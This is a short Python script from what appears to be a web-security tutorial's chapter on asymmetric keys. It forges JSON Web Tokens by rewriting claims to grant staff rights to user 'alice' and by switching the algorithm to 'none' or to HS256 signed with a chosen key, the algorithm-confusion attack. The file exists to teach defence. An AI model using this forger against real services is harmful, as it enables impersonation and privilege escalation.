"""The attacker's forger, for chapter 14. Not part of the Django project.

    python3 steps/14-asymmetric-keys/forge.py TOKEN ALG [KEY]

Prints TOKEN with its claims changed to say alice (staff), and its header's
`alg` changed to ALG. HS256 signs it with an HMAC keyed with KEY, `none`
leaves the signature out, and anything else keeps TOKEN's own signature.
Python's standard library only: an attacker needs no JWT library.
"""

import base64
import hashlib
import hmac
import json
import sys


def encode(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def decode(part: str) -> dict:
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))


def forge(token: str, alg: str, key: str = "") -> str:
    head, body, signature = token.split(".")
    header = {**decode(head), "alg": alg}
    claims = {**decode(body), "user_id": "2", "username": "alice", "is_staff": True}
    parts = (json.dumps(header).encode(), json.dumps(claims).encode())
    signed = ".".join(encode(part) for part in parts)
    if alg == "HS256":
        mac = hmac.new(key.encode(), signed.encode(), hashlib.sha256).digest()
        signature = encode(mac)
    elif alg == "none":
        signature = ""
    return f"{signed}.{signature}"


if __name__ == "__main__":
    print(forge(*sys.argv[1:4]))
